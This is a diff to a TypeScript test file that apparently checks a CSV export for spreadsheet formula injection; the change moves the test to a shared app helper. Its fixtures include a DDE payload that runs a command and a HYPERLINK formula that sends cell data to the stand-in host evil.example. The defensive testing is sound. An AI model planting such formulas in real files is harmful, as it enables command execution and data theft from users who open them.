@@ -6,20 +6,19 @@ import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import { readdir, readFile } from 'node:fs/promises';
 import path from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { seedDemo } from '../../seed.js';
-import { createTestApp, type TestApp } from '../testing/app.js';
 import { aUser } from '../testing/factories.js';
 import { signedInBrowser, type TestBrowser } from '../testing/http.js';
+import { useTestApp } from '../testing/world.js';
 
 const attack = "=cmd|' /C calc'!A0";
 const link = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
-let context: TestApp;
+const context = useTestApp();
 let admin: TestBrowser;
 let planId = 0;
 
 beforeAll(async () => {
-  context = await createTestApp();
   const { db } = context;
   if (!(await seedDemo(db)).ok) throw new Error('demo not loaded');
   // Names as a hostile editor could type them into the forms (or import them).
@@ -30,7 +29,6 @@ beforeAll(async () => {
   planId = (await db.selectFrom('progress_reports').select('plan_id').executeTakeFirstOrThrow()).plan_id;
   admin = await signedInBrowser(context.app, await aUser(db, { role: 'admin' }));
 });
-afterAll(async () => context.close());
 
 const formula = /^[=+\-@\t\r]/;
 const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
